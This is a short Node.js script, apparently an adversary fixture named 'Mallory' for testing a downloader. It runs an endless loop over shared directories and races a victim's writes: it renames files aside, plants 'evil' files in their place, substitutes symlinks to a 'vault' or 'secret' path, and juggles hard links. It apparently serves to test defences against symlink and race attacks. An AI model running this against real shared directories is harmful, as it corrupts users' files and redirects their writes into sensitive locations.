// Mallory, at work: renames, replaces and links whatever a victim's downloads leave in directories
// for all, until it is killed.

import {
  linkSync,
  lstatSync,
  readdirSync,
  renameSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'

const [, , shared, count, vault] = process.argv
const attempt = (work) => {
  try {
    work()
  } catch {
    // Not permitted, or gone: the next one.
  }
}
let number = 0
for (;;) {
  for (let index = 0; index < Number(count); index += 1) {
    const directory = join(shared, String(index))
    let names = []
    attempt(() => {
      names = readdirSync(directory)
    })
    for (const name of names) {
      const path = join(directory, name)
      number += 1
      const aside = join(directory, `aside-${number % 8}`)
      switch (number % 4) {
        case 0:
          attempt(() => renameSync(path, aside))
          attempt(() => writeFileSync(path, 'evil', { flag: 'wx', mode: 0o666 }))
          break
        case 1:
          attempt(() => renameSync(path, aside))
          attempt(() =>
            symlinkSync(lstatSync(aside).isDirectory() ? vault : join(vault, 'secret'), path),
          )
          break
        case 2:
          attempt(() => linkSync(path, aside))
          break
        default:
          attempt(() => unlinkSync(aside))
      }
    }
  }
}
